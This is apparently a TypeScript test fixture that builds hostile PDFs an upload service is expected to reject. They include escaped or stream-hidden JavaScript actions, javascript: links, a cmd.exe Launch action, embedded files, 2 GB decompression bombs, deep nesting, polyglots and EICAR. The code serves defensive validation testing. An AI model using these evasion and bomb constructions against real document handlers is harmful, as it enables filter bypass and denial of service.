import { constants, deflateRawSync, deflateSync } from 'node:zlib';
import { PDFDocument } from '@cantoo/pdf-lib';
import {
  buildFlateStream,
  buildJpegOfSize,
  toLatin1,
  buildObjectStream,
  buildPdf,
  buildStream,
  buildPdfWithObjects,
} from './document-builders.ts';
import { HOSTILE_CONTENTS, EICAR, type HostileDocument } from './hostile-content.ts';
import { HOSTILE_LINKS, buildPdfLink } from './pdf-links.ts';

const JAVASCRIPT = '<</S/JavaScript/JS(app.alert(1))>>';
const [WEB, SCRIPT] = ['(https://banco.example)', '(javascript:alert\\(1\\))'];
const { content: HIDDEN, entries: OBJECTS } = buildObjectStream(JAVASCRIPT);

/** What the service turns down with 690, in a whole PDF. */
const object = (what: string, ...objects: (string | Buffer)[]): HostileDocument => [
  what,
  'pdf',
  () => buildPdfWithObjects(objects),
  422,
  690,
];
const made = (what: string, build: () => Promise<Buffer>): HostileDocument => [what, 'pdf', build, 422, 690];
const bytes = (what: string, build: () => Buffer): HostileDocument => [what, 'pdf', build, 422, 690];

async function written(change: (document: PDFDocument) => Promise<unknown> | void, useObjectStreams = true) {
  const document = await PDFDocument.create();
  document.addPage([100, 100]);
  await change(document);
  return Buffer.from(await document.save({ useObjectStreams }));
}

const ACTIVE: HostileDocument[] = [
  object('a PDF with JavaScript', `3 0 obj${JAVASCRIPT}endobj`),
  object('a PDF whose JavaScript is written with escapes', '3 0 obj<</S/J#61v#61Script/J#53(app.alert(1))>>endobj'),
  object(
    'a PDF whose kind of action is an object of its own',
    '3 0 obj<</S 4 0 R>>endobj',
    '4 0 obj/JavaScript endobj',
  ),
  object('a PDF with a script and no kind of action', '3 0 obj<</JS(app.alert(1))>>endobj'),
  object('JavaScript in a compressed object stream', buildFlateStream(HIDDEN, OBJECTS)),
  object(
    'JavaScript in an object stream that does not say so',
    buildFlateStream(HIDDEN, OBJECTS.replace('/Type/ObjStm', '')),
  ),
  object(
    'JavaScript in an object stream that is folded twice',
    buildStream(`${deflateSync(toLatin1(HIDDEN)).toString('hex')}>`, `${OBJECTS}/Filter[/ASCIIHexDecode/FlateDecode]`),
  ),
  object(
    'an object stream with a predictor',
    buildFlateStream('9 0 <</A 1>>', `${OBJECTS}/DecodeParms<</Predictor 12>>`),
  ),
  made('JavaScript among the names, as a library writes it', () =>
    written((document) => document.addJavaScript('inicio', 'app.alert(1)')),
  ),
  object('JavaScript when it is opened', `3 0 obj<</OpenAction${JAVASCRIPT}>>endobj`),
  object('a page with actions of its own (AA)', '3 0 obj<</AA<</O<</S/Named/N/NextPage>>>>>>endobj'),
  object('actions of its own in an object stream', buildFlateStream('9 0 <</AA 8 0 R>>', OBJECTS)),
  ...HOSTILE_LINKS.flatMap(([what, value]): HostileDocument[] => [
    object(`a link ${what}`, `3 0 obj${buildPdfLink(value)}endobj`),
    object(`a link ${what}, in an object stream`, buildFlateStream(`9 0 ${buildPdfLink(value)}`, OBJECTS)),
  ]),
  object('a link to a script behind one to an address', `3 0 obj<</S/URI/URI${WEB}/URI${SCRIPT}>>endobj`),
  object('a link to an address behind one to a script', `3 0 obj<</S/URI/URI${SCRIPT}/URI${WEB}>>endobj`),
  object(
    'a link to a script that a later object replaces',
    `3 0 obj${buildPdfLink(SCRIPT)}endobj`,
    `3 0 obj${buildPdfLink(WEB)}endobj`,
  ),
  object('a link to an address that goes on with a script', `3 0 obj<</S/URI/URI${WEB}/Next${JAVASCRIPT}>>endobj`),
  object('a link to an object of its own', '3 0 obj<</S/URI/URI 4 0 R>>endobj', `4 0 obj${WEB}endobj`),
  object('an address that all links begin with', '3 0 obj<</URI<</Base(http://trampa.example)>>>>endobj'),
  object('a link to a script whose key is written with escapes', `3 0 obj${buildPdfLink(SCRIPT, '/#55R#49')}endobj`),
  object(
    'a link to a script whose key is written with escapes, in an object stream',
    buildFlateStream(`9 0 ${buildPdfLink(SCRIPT, '/#55R#49')}`, OBJECTS),
  ),
  object('a PDF that starts a program', '3 0 obj<</S/Launch/F(cmd.exe)>>endobj'),
  object('a PDF that sends its form', '3 0 obj<</S/SubmitForm/F(http://trampa.example)>>endobj'),
  object('a PDF that fetches data', '3 0 obj<</S/ImportData/F(datos.fdf)>>endobj'),
  object('a PDF that leads into another one', '3 0 obj<</S/GoToR/F(otro.pdf)/D[0/Fit]>>endobj'),
  object('a PDF that leads into one inside it', '3 0 obj<</S/GoToE/D[0/Fit]>>endobj'),
  object('a PDF with Flash', '3 0 obj<</Subtype/RichMedia>>endobj'),
  object('a PDF that plays a sound', '3 0 obj<</S/Sound/Sound 4 0 R>>endobj'),
  object('a PDF that plays a film', '3 0 obj<</Subtype/Movie/Movie<<>>>>endobj'),
  object('a PDF that plays whatever it names', '3 0 obj<</S/Rendition/OP 0>>endobj'),
  object('a PDF with a model in three dimensions', '3 0 obj<</Subtype/3D/3DD 4 0 R>>endobj'),
  object('a PDF with an XFA form', '3 0 obj<</Fields[]/XFA[(template)4 0 R]>>endobj'),
];

const CARRYING: HostileDocument[] = [
  made('a file inside, as a library writes it', () =>
    written((document) => document.attach(Buffer.from('hola'), 'nota.txt', { mimeType: 'text/plain' })),
  ),
  object('a file inside an annotation', '3 0 obj<</Subtype/FileAttachment/FS 4 0 R>>endobj'),
  object('a file of an older kind inside', '3 0 obj<</Type/F/EF<</F 4 0 R>>>>endobj'),
  object('a portfolio', '3 0 obj<</Collection<</View/T>>>>endobj'),
  object('a stream that stands in another file', buildStream('', '/F(otro.bin)')),
  made('an encrypted PDF', () => written((document) => document.encrypt({ userPassword: 'a', ownerPassword: 'b' }))),
  bytes('a PDF that says it is encrypted', () =>
    toLatin1(buildPdf().toString('latin1').replace('/Root 1 0 R', '/Root 1 0 R/Encrypt<</Filter/Standard>>')),
  ),
];

const HIDING: HostileDocument[] = [
  object('JavaScript that a later object replaces', `3 0 obj${JAVASCRIPT}endobj`, '3 0 obj null endobj'),
  bytes('JavaScript that a later change adds', () =>
    Buffer.concat([buildPdf(), toLatin1(`3 0 obj${JAVASCRIPT}endobj\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n`)]),
  ),
  object('an encryption that only a trailer in a comment names', '%trailer<</Root 1 0 R/Encrypt 9 0 R>>'),
  object('an object in a comment', '%3 0 obj<</A 1>>endobj'),
  object('an object in a stream', buildStream('7 0 obj<</A 1>>endobj')),
  object('an object in a text', '3 0 obj(7 0 obj<</A 1>>endobj)endobj'),
  object('a stream that cannot be unfolded', buildStream('no es zlib', '/Filter/FlateDecode')),
  object('a stream that is folded in a way that nobody knows', buildStream('x', '/Filter/Secreto')),
];

/** Zeros as one byte in a thousand, written once and repeated. */
function zeros(megabytes: number): Buffer {
  const one = deflateRawSync(Buffer.alloc(1_000_000), { finishFlush: constants.Z_FULL_FLUSH });
  return Buffer.concat([Buffer.from([0x78, 0x9c]), ...Array.from({ length: megabytes }, () => one)]);
}

const nested = (open: string, close: string) => `3 0 obj${open.repeat(5000)}${close.repeat(5000)}endobj`;
const IMAGE = '/Type/XObject/Subtype/Image/BitsPerComponent 8/ColorSpace/DeviceGray';

const BOMBS: HostileDocument[] = [
  object('a stream that unfolds to 2 GB', buildStream(zeros(2000), '/Filter/FlateDecode')),
  object('an object stream that unfolds to 2 GB', buildStream(zeros(2000), `${OBJECTS}/Filter/FlateDecode`)),
  object(
    'a stream that unfolds to 2 GB in two steps',
    buildStream(deflateSync(Buffer.alloc(32_000_000, Buffer.from([129, 0]))), '/Filter[/FlateDecode/RunLengthDecode]'),
  ),
  object('arrays in arrays, 5,000 deep', nested('[', ']')),
  object('dictionaries in dictionaries, 5,000 deep', nested('<</A', '>>')),
  object('pages that lead in a circle', '3 0 obj<</Type/Pages/Kids[4 0 R]>>endobj', '4 0 obj<</Kids[3 0 R]>>endobj'),
  object('a table of contents that leads in a circle', '3 0 obj<</Next 4 0 R>>endobj', '4 0 obj<</Next 3 0 R>>endobj'),
  object('a picture of 60,000 × 60,000', buildFlateStream('x', `${IMAGE}/Width 60000/Height 60000`)),
  made('a JPEG of 30,000 × 30,000 in a PDF', async () =>
    buildPdfWithObjects([
      buildStream(await buildJpegOfSize(30_000, 30_000), `${IMAGE}/Width 10/Height 10/Filter/DCTDecode`),
    ]),
  ),
];

const POLYGLOTS: HostileDocument[] = HOSTILE_CONTENTS.flatMap(([what, cargo]): HostileDocument[] => [
  [`${what} behind the end of a PDF`, 'pdf', () => Buffer.concat([buildPdf(), cargo]), 422, 690],
  [`${what} in a compressed stream of a PDF`, 'pdf', () => buildPdfWithObjects([buildFlateStream(cargo)]), 422, 690],
]);

const TEXTS: HostileDocument[] = [
  object('EICAR in a PDF', `%${EICAR}`),
  object('EICAR in a text of a PDF', `3 0 obj(${EICAR.replace(/[\\()]/g, '\\$&')})endobj`),
  object('EICAR compressed twice', buildStream(deflateSync(deflateSync(EICAR)), '/Filter[/FlateDecode/Fl]')),
  object('a script in UTF-16 LE in a PDF', buildStream(Buffer.from('<script>alert(1)</script>', 'utf16le'))),
  object('a script in UTF-16 BE in a PDF', buildStream(Buffer.from('<script>', 'utf16le').swap16())),
  object(
    'a page of the web in UTF-16 BE, compressed',
    buildFlateStream(Buffer.from('<html><body>', 'utf16le').swap16()),
  ),
  object('a zip that ends within a PDF', '%PK\x05\x06'),
  object('a zip in a stream of a PDF', buildStream('PK\x03\x04\x14\x00\x00\x00\x08\x00carga')),
];

/** PDFs that could harm whoever opens them. */
export const HOSTILE_PDFS: readonly HostileDocument[] = [
  ...ACTIVE,
  ...CARRYING,
  ...HIDING,
  ...BOMBS,
  ...POLYGLOTS,
  ...TEXTS,
];
